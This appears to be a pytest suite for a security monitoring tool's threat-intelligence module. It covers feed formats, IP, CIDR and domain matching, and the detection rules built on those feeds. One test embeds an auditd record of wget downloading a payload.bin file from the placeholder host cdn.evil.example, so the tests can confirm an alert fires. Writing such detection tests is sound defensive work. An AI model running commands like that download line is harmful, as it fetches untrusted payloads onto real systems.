"""Threat intelligence: formats, CIDR and domain matching, and rules that use it."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seawall.errors import InputError
from seawall.runtime.intel import IntelDB, IntelSet
from seawall.runtime.options import load_intel
from seawall.runtime.rules.loader import load_rules
from seawall.runtime.sources.auditd import AuditAssembler
from seawall.runtime.sources.k8s_audit import AuditParser
from tests.runtime.conftest import AUDITD, FIXTURES, K8S, alerts_for, rule_ids

INTEL = FIXTURES / "intel"


def test_plain_text_with_cidrs_and_ipv6() -> None:
    db = IntelDB()
    assert db.load("tor", INTEL / "tor-exits.txt") == 3
    tor = db.sets["tor"]
    assert tor.match("192.168.99.1")
    assert tor.match("198.51.100.200")
    assert not tor.match("198.51.101.1")
    assert tor.match("2001:db8:1::5")
    assert not tor.match("2001:db9::1")
    assert not tor.match("not an address")


def test_abuse_ch_csv_reads_the_ip_column_only() -> None:
    db = IntelDB()
    assert db.load("malicious", INTEL / "feodo.csv") == 2
    bad = db.sets["malicious"]
    assert bad.match("203.0.113.66") and bad.match("203.0.113.67")
    assert not bad.match("win.qakbot")
    assert bad.domains == set()


def test_stix_bundle_patterns_and_observables() -> None:
    db = IntelDB()
    db.load("malicious", INTEL / "bundle.stix.json")
    bad = db.sets["malicious"]
    assert bad.match("evil.example") and bad.match("cdn.evil.example")
    assert not bad.match("notevil.example")
    assert bad.match("http://dl.bad.example/other")
    assert bad.match("192.0.2.10")
    assert not bad.match("192.0.2.99")  # revoked indicator
    assert bad.match("2001:db8:bad::1")


def test_urlhaus_style_csv_without_header_takes_urls_and_ips() -> None:
    db = IntelDB()
    db.load_text(
        "malicious",
        '"1","2024-01-01","http://x.bad.example/a","online"\n"2","2024-01-01","10.9.9.9","offline"\n',
    )
    assert db.sets["malicious"].match("x.bad.example")
    assert db.sets["malicious"].match("10.9.9.9")


def test_bad_files() -> None:
    with pytest.raises(InputError):
        IntelDB().load("x", INTEL / "missing.txt")
    with pytest.raises(InputError):
        IntelDB().load_text("x", '{"type": "bundle"', "broken.json")
    with pytest.raises(InputError, match="CATEGORY=FILE"):
        load_intel(["=x"])


def test_ipv4_and_ipv6_integers_do_not_collide() -> None:
    s = IntelSet("x")
    s.add("::1")
    assert not s.match("0.0.0.1")


def test_tor_request_to_the_api_server() -> None:
    rules = load_rules(intel=load_intel([f"tor={INTEL / 'tor-exits.txt'}"]))
    events = AuditParser().parse((K8S / "create_clusterrolebinding.json").read_bytes())
    assert rule_ids(alerts_for(events, rules)) == ["k8s-request-from-tor"]


def test_connection_to_known_bad_address_from_a_host() -> None:
    rules = load_rules(intel=load_intel([str(INTEL / "feodo.csv")]))
    assembler = AuditAssembler()
    events = [
        e for ln in (AUDITD / "attack.log").read_text().splitlines() for e in assembler.feed(ln)
    ]
    alerts = [a for a in alerts_for(events, rules) if a.rule.id == "host-malicious-connection"]
    assert len(alerts) == 1
    assert alerts[0].evidence["fd.sip"] == "203.0.113.66"
    assert alerts[0].evidence["fd.sport"] == "443"


def test_download_from_a_stix_listed_host() -> None:
    rules = load_rules(intel=load_intel([f"malicious={INTEL / 'bundle.stix.json'}"]))
    assembler = AuditAssembler()
    assembler.feed(
        "type=SYSCALL msg=audit(5.0:1): arch=c000003e syscall=59 success=yes exit=0 "
        'pid=9 ppid=8 comm="wget" exe="/usr/bin/wget"'
    )
    assembler.feed(
        'type=EXECVE msg=audit(5.0:1): argc=2 a0="wget" a1="https://cdn.evil.example/payload.bin"'
    )
    events = assembler.feed("type=EOE msg=audit(5.0:1): ")
    assert rule_ids(alerts_for(events, rules)) == ["host-malicious-download"]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_any_text_loads_or_is_an_input_error(text: str) -> None:
    db = IntelDB()
    try:
        db.load_text("x", text)
    except InputError:
        return
    db.match(["x"], "192.0.2.1")
    db.match(["x"], "a.example")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["10.0.0.0/8", "::/0", "1.2.3.4", "x.example", "http://y.example/a",
                                 "1.2.3.4:80", "0.0.0.0/0", "not valid", "", "2001:db8::/129"]),
                max_size=6), st.text(max_size=40))  # fmt: skip
def test_matching_never_fails(indicators: list[str], probe: str) -> None:
    s = IntelSet("x")
    for i in indicators:
        s.add(i)
    s.match(probe)


def test_intel_files_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(InputError, match="a character device"):
        IntelDB().load("tor", Path("/dev/zero"))
    many = tmp_path / "many.txt"
    many.write_text("".join(f"10.0.{i // 256}.{i % 256}\n" for i in range(1000)))
    monkeypatch.setenv("SEAWALL_MAX_INTEL_INDICATORS", "999")
    with pytest.raises(InputError, match="more than 999 indicators"):
        IntelDB().load("tor", many)
    monkeypatch.setenv("SEAWALL_MAX_INTEL_INDICATORS", "1000")
    assert IntelDB().load("tor", many) == 1000
